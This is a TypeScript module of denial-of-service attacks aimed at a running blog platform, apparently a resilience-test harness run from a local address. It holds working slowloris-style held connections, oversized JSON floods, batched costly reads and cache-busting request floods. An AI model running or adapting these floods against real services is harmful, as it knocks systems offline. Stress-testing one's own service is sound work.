import { request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';

/** Where an attack goes to. @property signal ends it */
export type Target = {
  readonly host: string;
  readonly platform: string;
  readonly amebaId: string;
  /** address of a picture of an entry */
  readonly picture: string;
  readonly signal: AbortSignal;
};

/** One attack of one address. @property what in a few words, with its limits */
export type Attack = {
  readonly id: string;
  readonly what: string;
  readonly run: (target: Target) => Promise<void>;
};

const ATTACKER = '127.0.2.66';
const TIMEOUT_MS = 20_000;

type Sent = {
  readonly method?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
};

/** What an attacker asks for; what comes of it is no concern of theirs. */
const send = (url: string, { method = 'GET', headers = {}, body }: Sent = {}): Promise<void> =>
  new Promise((resolve) => {
    const done = () => resolve();
    request(
      url,
      { method, headers, localAddress: ATTACKER, agent: false, timeout: TIMEOUT_MS },
      (answer) => {
        answer.resume().once('close', done);
      },
    )
      .once('error', done)
      .once('timeout', done)
      .end(body);
  });

/** So many at once, again and again, until the end. */
const flood = async (
  signal: AbortSignal,
  atOnce: number,
  one: (turn: number) => Promise<void>,
): Promise<void> => {
  let turn = 0;
  const work = async () => {
    while (!signal.aborted) {
      turn += 1;
      // oxlint-disable-next-line no-await-in-loop -- each waits for its own
      await one(turn);
    }
  };
  await Promise.all(Array.from({ length: atOnce }, work));
};

/** Holds so many connections with the beginning of a request, each opened anew where it is ended. */
const hold = async (
  origin: string,
  signal: AbortSignal,
  count: number,
  head: string,
  trickleMs: number | null,
): Promise<void> => {
  const { hostname, port } = new URL(origin);
  const open = new Set<Socket>();
  const one = () => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER });
    open.add(socket);
    socket.once('connect', () => socket.write(head));
    socket.on('error', () => undefined);
    socket.on('data', () => undefined);
    socket.once('close', () => {
      open.delete(socket);
      if (!signal.aborted) setTimeout(one, 100);
    });
  };
  for (let n = 0; n < count; n += 1) one();
  while (!signal.aborted) {
    // oxlint-disable-next-line no-await-in-loop -- a byte now and then
    await wait(trickleMs ?? 100, undefined, { signal }).catch(() => undefined);
    if (trickleMs !== null) for (const socket of open) socket.write('a');
  }
  for (const socket of open) socket.destroy();
};

const JSON_BODY = { 'Content-Type': 'application/json' };

const group = (resource: string, params: object, count: number): string =>
  JSON.stringify({
    requests: Object.fromEntries(
      Array.from({ length: count }, (_, n) => [`g${n}`, { resource, operation: 'read', params }]),
    ),
  });

const head = (path: string, length: number): string =>
  `POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${length}\r\n\r\n`;

/** Each against the running product, from one address. */
export const ATTACKS: readonly Attack[] = [
  {
    id: 'S1',
    what: '200 connections to the platform whose body never comes',
    run: ({ platform, signal }) => hold(platform, signal, 200, head('/signin', 100), null),
  },
  {
    id: 'S2',
    what: 'bodies of 1 MB with 340,000 faults, 8 at once, to host and platform',
    run: ({ host, platform, signal }) => {
      const body = group(
        'blogEntryReactions',
        { entryIds: Array.from({ length: 340_000 }, () => ({})) },
        1,
      );
      return flood(signal, 8, (turn) =>
        send(`${turn % 2 === 0 ? host : platform}/_api`, {
          method: 'POST',
          headers: JSON_BODY,
          body,
        }),
      );
    },
  },
  {
    id: 'S3',
    what: 'groups of 50 of the dearest reads, 8 at once',
    run: ({ host, amebaId, signal }) => {
      const bodies = [
        group('sitemapEntries', { chunk: 255_119 }, 50),
        group('blogEntries', { amebaId, limit: 50, isNeedDetailText: true }, 50),
        group('search', { q: '縁側' }, 10),
      ];
      return flood(signal, 8, (turn) =>
        send(`${host}/_api`, {
          method: 'POST',
          headers: JSON_BODY,
          body: bodies[turn % bodies.length] ?? '',
        }),
      );
    },
  },
  {
    id: 'S7',
    what: '190 connections to /_api of the host, a byte each 2 s',
    run: ({ host, signal }) => hold(host, signal, 190, head('/_api', 60_000), 2000),
  },
  {
    id: 'S8',
    what: 'made-up addresses, 16 at once',
    run: ({ host, amebaId, signal }) =>
      flood(signal, 16, (turn) =>
        send(
          `${host}${turn % 2 === 0 ? `/skin-preview/mobile/${turn}` : `/${amebaId}/skin-preview/${turn}`}`,
        ),
      ),
  },
  {
    id: 'S12',
    what: 'a picture in every size, 8 at once',
    run: ({ picture, signal }) =>
      flood(signal, 8, (turn) =>
        send(`${picture}?${turn % 2 === 0 ? 'caw' : 'cpd'}=${16 + ((turn * 7) % 2000)}`),
      ),
  },
  {
    id: 'S13',
    what: 'requests that ask to be traced, 16 at once',
    run: ({ host, amebaId, signal }) =>
      flood(signal, 16, (turn) =>
        send(`${host}/${amebaId}/`, {
          headers: { traceparent: `00-${turn.toString(16).padStart(32, '0')}-00f067aa0ba902b7-01` },
        }),
      ),
  },
  {
    id: 'S16',
    what: 'made-up hosts, 16 at once',
    run: ({ host, signal }) =>
      flood(signal, 16, (turn) => send(`${host}/`, { headers: { Host: `x${turn}.example` } })),
  },
  {
    id: 'S17',
    what: 'entries that are not there, 32 at once',
    run: ({ host, amebaId, signal }) =>
      flood(signal, 32, (turn) => send(`${host}/${amebaId}/entry-${9_000_000_000 + turn}.html`)),
  },
];
